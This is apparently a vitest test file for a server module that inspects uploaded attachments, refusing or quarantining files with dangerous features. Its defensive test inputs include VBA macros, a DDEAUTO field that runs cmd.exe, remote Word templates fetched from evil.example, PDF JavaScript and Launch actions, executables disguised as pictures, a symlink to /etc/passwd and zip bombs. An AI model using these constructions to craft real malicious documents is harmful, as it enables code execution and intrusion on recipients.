import { describe, expect, test } from 'vitest';
import { defaultInspectionLimits, type InspectionLimits } from '../../server/attachments/inspection/budget.ts';
import { inspectFiles } from '../../server/attachments/inspection/inspect.ts';
import type { Verdict } from '../../server/attachments/inspection/verdict.ts';
import { patientInspection } from './patient-inspection.ts';
import {
  compoundFile,
  doc,
  docx,
  jpeg,
  packageOf,
  packedPdf,
  pdf,
  pdfOf,
  png,
  relationships,
  windowsProgram,
  windowsShortcut,
  xls,
  zip,
  type CompoundEntry,
} from './sample-files.ts';

const megabyte = 1024 * 1024;

const judge = async (name: string, bytes: Buffer, limits: InspectionLimits = patientInspection): Promise<string> => {
  const extension = name.slice(name.lastIndexOf('.') + 1);
  const [inspection] = await inspectFiles([{ extension, bytes }], acceptedTypes, limits);
  return wordsOf(inspection);
};

const acceptedTypes = ['pdf', 'jpg', 'jpeg', 'png', 'doc', 'docx', 'zip'];

const wordsOf = ({ verdict }: { readonly verdict?: Verdict } = {}): string => {
  if (verdict?.kind === 'refused') return `refused: ${verdict.reason}`;
  return verdict?.kind === 'quarantined' ? `quarantined: ${verdict.reason}` : 'clean';
};

const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');
const template = (target: string) => ({
  name: 'word/_rels/settings.xml.rels',
  content: relationships('attachedTemplate', target),
});
const within = (name: string, content: Buffer | string, mode?: number): Buffer =>
  zip([
    { name: 'plan.jpg', content: jpeg() },
    { name, content, ...(mode !== undefined && { mode }) },
  ]);
const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
/** Storages, each but the first in the one before. */
const nested = (count: number): CompoundEntry => ({ name: 'A', within: count > 1 ? [nested(count - 1)] : [] });
/** What an old document's table of texts begins with: that their letters take two bytes, and how many there are. */
const textsHead = Buffer.from([0xff, 0xff, 7, 0, 0, 0]);
/** An old document with other bytes in its table of texts. */
const withTexts = (bytes: readonly number[], at = 0): Buffer => {
  const document = doc();
  Buffer.from(bytes).copy(document, document.indexOf(textsHead) + at);
  return document;
};

describe('honest files', () => {
  test.each<[string, string, Buffer]>([
    ['a PDF', 'a.pdf', pdf(10_000)],
    ['a PDF with packed objects', 'a.pdf', packedPdf('<</Type/Catalog>>')],
    ['a PDF that speaks of JavaScript', 'a.pdf', pdfOf('<</Title(Le JavaScript sans peine)>>')],
    ['a PDF whose names begin alike', 'a.pdf', pdfOf('<</LaunchPad 1/JavaScripts 2>>')],
    ['a document of Word', 'a.doc', doc()],
    ['one whose template stands on a disk', 'a.doc', doc({ template: 'C:\\Modeles\\Devis.dot' })],
    ['one whose storages lie 33 deep', 'a.doc', doc({ more: [nested(33)] })],
    ['a document of Word as an archive', 'a.docx', docx()],
    ['one with links and a template on a disk', 'a.docx', docx([template('file:///C:\\Modeles\\Devis.dotx')])],
    [
      'one with a link to a page',
      'a.docx',
      docx([{ name: 'word/_rels/document.xml.rels', content: relationships('hyperlink', 'https://www.exemple.fr') }]),
    ],
    ['one with a spreadsheet inside', 'a.docx', docx([{ name: 'word/embeddings/Feuille1.xlsx', content: docx() }])],
    ['an archive of plans', 'a.zip', within('plan.pdf', pdf(5000))],
    ['an archive with documents of Word', 'a.zip', within('devis.docx', docx())],
    ['an archive with an old document of Word', 'a.zip', within('devis.doc', doc())],
    ['what macOS adds to an archive', 'a.zip', within('__MACOSX/._plan.jpg', Buffer.from('\0\x05\x16\x07'))],
    ['an archive with rights of Unix', 'a.zip', within('dossier/plan.png', png(), 0o100644)],
    [
      'an archive with a text that begins with MZ',
      'a.zip',
      within('MZ.txt', 'MZ est le nom de notre chantier, au Puy-en-Velay, près de la gare.'),
    ],
  ])('%s is clean', async (_name, name, bytes) => {
    expect(await judge(name, bytes)).toBe('clean');
  });
});

describe('macros, programs, objects and links are refused', () => {
  test.each<[string, string, Buffer, string]>([
    [
      'macros in an old document',
      'a.doc',
      doc({ more: [{ name: 'Macros' }, { name: '_VBA_PROJECT', content: Buffer.from('x') }] }),
      'macros',
    ],
    ['macros without their usual storage', 'a.doc', doc({ more: [{ name: 'VBA' }] }), 'macros'],
    [
      'a program in an old document',
      'a.doc',
      doc({ more: [{ name: '\u0001Ole10Native', content: windowsProgram() }] }),
      'executable',
    ],
    [
      'a program in an old document, by its name alone',
      'a.doc',
      doc({ more: [{ name: '\u0001Ole10Native', content: packageOf('facture.vbs', 'x') }] }),
      'executable',
    ],
    [
      'a program of Linux in an old document',
      'a.doc',
      doc({ more: [{ name: '\u0001Ole10Native', content: packageOf('plan', '\x7fELF\x02\x01\x01') }] }),
      'executable',
    ],
    [
      'a template on the net, in an old document',
      'a.doc',
      doc({ template: 'https://evil.example/t.dotm' }),
      'remote-part',
    ],
    ['a template by WebDAV', 'a.doc', doc({ template: '\\\\evil.example@SSL\\DavWWWRoot\\t.dot' }), 'remote-part'],
    ['macros', 'a.docx', docx([{ name: 'word/vbaProject.bin', content: 'x' }]), 'macros'],
    [
      'macros under another name',
      'a.docx',
      docx([
        {
          name: 'word/theme.bin',
          content: compoundFile([{ name: 'VBA' }, { name: '_VBA_PROJECT', content: Buffer.from('x') }]),
        },
        { name: 'word/_rels/document.xml.rels', content: relationships('image', 'theme.bin', 'Internal') },
      ]),
      'macros',
    ],
    [
      'macros named by their type alone',
      'a.docx',
      docx([
        {
          name: '[Content_Types].xml',
          content: '<Types><Override ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        },
      ]),
      'macros',
    ],
    [
      'macros named by their relationship alone',
      'a.docx',
      docx([{ name: 'word/_rels/document.xml.rels', content: relationships('vbaProject', 'x.bin', 'Internal') }]),
      'macros',
    ],
    [
      'a field that starts a program',
      'a.docx',
      docx([{ name: 'word/document.xml', content: fieldOf('DDEAUTO c:\\\\windows\\\\cmd.exe') }]),
      'macros',
    ],
    [
      'the same in pieces',
      'a.docx',
      docx([{ name: 'word/document.xml', content: fieldOf('DD', 'EAUTO', ' "cmd"') }]),
      'macros',
    ],
    ['a template on the net', 'a.docx', docx([template('https://evil.example/t.dotm')]), 'remote-part'],
    ['the same, escaped', 'a.docx', docx([template('&#x68;ttps://evil.example/t.dotm')]), 'remote-part'],
    [
      'the same, in UTF-16',
      'a.docx',
      docx([
        {
          name: 'word/_rels/settings.xml.rels',
          content: utf16(relationships('attachedTemplate', 'http://evil.example/t').replace('UTF-8', 'UTF-16')),
        },
      ]),
      'remote-part',
    ],
    [
      'a program in an object',
      'a.docx',
      docx([
        {
          name: 'word/embeddings/oleObject1.bin',
          content: compoundFile([{ name: '\u0001Ole10Native', content: packageOf('photo.jpg', windowsProgram()) }]),
        },
      ]),
      'executable',
    ],
    [
      'macros in an object',
      'a.docx',
      docx([
        {
          name: 'word/embeddings/oleObject1.bin',
          content: compoundFile([{ name: 'Workbook', content: Buffer.from('x') }, { name: '_VBA_PROJECT_CUR' }]),
        },
      ]),
      'macros',
    ],
    [
      'an object that is fetched',
      'a.docx',
      docx([
        { name: 'word/_rels/document.xml.rels', content: relationships('oleObject', 'mhtml:http://evil.example/x') },
      ]),
      'remote-part',
    ],
    ['a control', 'a.docx', docx([{ name: 'word/activeX/activeX1.xml', content: '<x/>' }]), 'control'],
    [
      'a program in a document',
      'a.docx',
      docx([{ name: 'word/media/image1.png', content: windowsProgram() }]),
      'executable',
    ],
    ['a program in an archive', 'a.zip', within('photos.exe', windowsProgram()), 'executable'],
    ['a program under a picture’s name', 'a.zip', within('photo.jpg', windowsProgram()), 'executable'],
    ['a program by its name alone', 'a.zip', within('photo.jpg.scr', 'x'), 'executable'],
    ['a name that Windows shortens', 'a.zip', within('photo.exe. .', 'x'), 'executable'],
    ['a script', 'a.zip', within('install.ps1', 'Start-Process cmd'), 'executable'],
    ['a program of Linux', 'a.zip', within('plan', Buffer.from('\x7fELF\x02\x01\x01')), 'executable'],
    ['a shortcut', 'a.zip', within('Plan.lnk', windowsShortcut()), 'executable'],
    ['a shortcut under another name', 'a.zip', within('Plan.pdf', windowsShortcut()), 'executable'],
    ['a document with macros', 'a.zip', within('devis.docm', docx()), 'macros'],
    [
      'macros in a document in an archive',
      'a.zip',
      within('devis.docx', docx([{ name: 'word/vbaProject.bin', content: 'x' }])),
      'macros',
    ],
    [
      'macros in an old document in an archive',
      'a.zip',
      within('devis.doc', doc({ more: [{ name: 'VBA' }] })),
      'macros',
    ],
    ['a symbolic link', 'a.zip', within('plan', '/etc/passwd', 0o120777), 'archive-link'],
    ['a device', 'a.zip', within('plan', '', 0o020666), 'archive-link'],
    ['a name that reads backwards', 'a.zip', within('plan\u202efdp.exe', 'x'), 'archive-names'],
    [
      'an office document with macros, renamed',
      'a.zip',
      docx([{ name: 'word/vbaProject.bin', content: 'x' }]),
      'macros',
    ],
    ['a spreadsheet as a document', 'a.doc', xls(), 'not-a-document'],
  ])('%s', async (_name, name, bytes, fault) => {
    expect(await judge(name, bytes)).toBe(`refused: ${fault}`);
  });
});

describe('what an honest file may be as well is kept apart', () => {
  test.each<[string, string, Buffer, string]>([
    ['a script in a PDF', 'a.pdf', pdfOf(`<</OpenAction${script}>>`), 'pdf-script'],
    ['a script whose name is escaped', 'a.pdf', pdfOf('<</S/J#61va#53cript/JS(1)>>'), 'pdf-script'],
    ['a script among packed objects', 'a.pdf', packedPdf(script), 'pdf-script'],
    ['a form with a script', 'a.pdf', pdfOf(`<</AcroForm<</Fields[]>>/Names<</JavaScript 2 0 R>>>>`), 'pdf-script'],
    ['a program that a PDF starts', 'a.pdf', pdfOf('<</S/Launch/F(cmd.exe)>>'), 'pdf-launch'],
    [
      'a file in a PDF',
      'a.pdf',
      pdfOf('<</Type/Filespec/EF<</F 3 0 R>>>>', '<</Type/EmbeddedFile>>'),
      'pdf-attachment',
    ],
    [
      'packed objects behind another filter',
      'a.pdf',
      packedPdf(script, '/Filter[/ASCII85Decode/FlateDecode]'),
      'unreadable',
    ],
    [
      'packed objects that cannot be expanded',
      'a.pdf',
      pdfOf('<</Type/ObjStm/Filter/FlateDecode>>stream\nxyzxyz\nendstream'),
      'unreadable',
    ],
    ['a script in a PDF in an archive', 'a.zip', within('plan.pdf', pdfOf(script)), 'pdf-script'],
    [
      'an archive in an archive',
      'a.zip',
      within('photos.zip', zip([{ name: 'a.txt', content: 'a' }])),
      'inner-archive',
    ],
    [
      'an archive under another name',
      'a.zip',
      within('photos.jpg', zip([{ name: 'a.txt', content: 'a' }])),
      'disguised',
    ],
    ['a page under a picture’s name', 'a.zip', within('photo.png', '<!doctype html><script>1</script>'), 'disguised'],
    [
      'an archive of another kind',
      'a.zip',
      within('photos.7z', Buffer.from('7z\xbc\xaf\x27\x1c', 'latin1')),
      'inner-archive',
    ],
    [
      'a document three archives down',
      'a.zip',
      within('a.docx', docx([{ name: 'word/embeddings/a.xlsx', content: docx() }])),
      'inner-archive',
    ],
    ['a page', 'a.zip', within('plan.html', '<script>1</script>'), 'active-content'],
    [
      'a picture on the net',
      'a.docx',
      docx([{ name: 'word/_rels/document.xml.rels', content: relationships('image', 'https://evil.example/p.png') }]),
      'remote-content',
    ],
    [
      'a part in an encoding of its own',
      'a.docx',
      docx([{ name: 'word/document.xml', content: '<?xml version="1.0" encoding="UTF-7"?><d/>' }]),
      'unreadable',
    ],
    [
      'an old document with an object',
      'a.doc',
      doc({ objects: [{ name: '_1', parts: ['\u0001Ole'] }] }),
      'embedded-object',
    ],
    ['an encrypted old document', 'a.doc', doc({ isEncrypted: true }), 'encrypted'],
    ['an old document whose chains do not hold', 'a.doc', doc().fill(0, 512, 1024), 'unreadable'],
    ['an old document whose storages lie deeper than any', 'a.doc', doc({ more: [nested(34)] }), 'unreadable'],
    ['an old document whose texts are of another form', 'a.doc', withTexts([0xff, 0xfe]), 'unreadable'],
    ['an old document whose template’s name does not end', 'a.doc', withTexts([0xff, 0x7f], 8), 'unreadable'],
  ])('%s', async (_name, name, bytes, reason) => {
    expect(await judge(name, bytes)).toBe(`quarantined: ${reason}`);
  });
});

describe('one budget a request', () => {
  const bomb = (size: number) => ({ extension: 'zip', bytes: zip([{ name: 'a.bin', content: Buffer.alloc(size) }]) });

  test('archives that each pass, and not together, are refused before anything is expanded', async () => {
    const limits = { entries: 100, expandedBytes: 20 * megabyte, timeMs: 1e9 };
    const files = Array.from({ length: 3 }, () => bomb(8 * megabyte));
    expect((await inspectFiles(files.slice(0, 2), acceptedTypes, limits)).map(wordsOf)).toEqual(['clean', 'clean']);
    expect((await inspectFiles(files, acceptedTypes, limits)).map(wordsOf)).toEqual([
      'refused: archive-size',
      'refused: archive-size',
      'refused: archive-size',
    ]);
  });

  test('entries are counted together', async () => {
    const limits = { entries: 3, expandedBytes: megabyte, timeMs: 1e9 };
    const two = {
      extension: 'zip',
      bytes: zip([
        { name: 'a', content: 'a' },
        { name: 'b', content: 'b' },
      ]),
    };
    expect((await inspectFiles([two], acceptedTypes, limits)).map(wordsOf)).toEqual(['clean']);
    expect((await inspectFiles([two, two], acceptedTypes, limits)).map(wordsOf)).toEqual([
      'clean',
      'quarantined: archive-entries',
    ]);
  });

  test('what a PDF packs counts as well', async () => {
    const limits = { entries: 3, expandedBytes: 1000, timeMs: 1e9 };
    expect(await judge('a.pdf', packedPdf(' '.repeat(5000)), limits)).toBe('refused: archive-size');
  });

  test('what a document in an archive expands to counts as well', async () => {
    const inner = docx([{ name: 'word/media/a.bin', content: Buffer.alloc(megabyte) }]);
    const limits = { entries: 100, expandedBytes: megabyte, timeMs: 1e9 };
    expect(await judge('a.zip', within('a.docx', inner), limits)).toBe('refused: archive-size');
  });

  test('when the time is up, what is left is kept apart', async () => {
    let now = 0;
    const clock = (): number => (now += 200);
    const verdicts = await inspectFiles(
      [bomb(1000), bomb(1000), bomb(1000)],
      acceptedTypes,
      { ...defaultInspectionLimits, timeMs: 1000 },
      clock,
    );
    expect(verdicts.map(wordsOf)).toEqual(['clean', 'clean', 'quarantined: not-inspected']);
  });
});

/** A paragraph with one field, its words in as many runs as are given. */
const fieldOf = (...runs: readonly string[]): string => {
  return `<w:document><w:p>${runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join('')}</w:p></w:document>`;
};
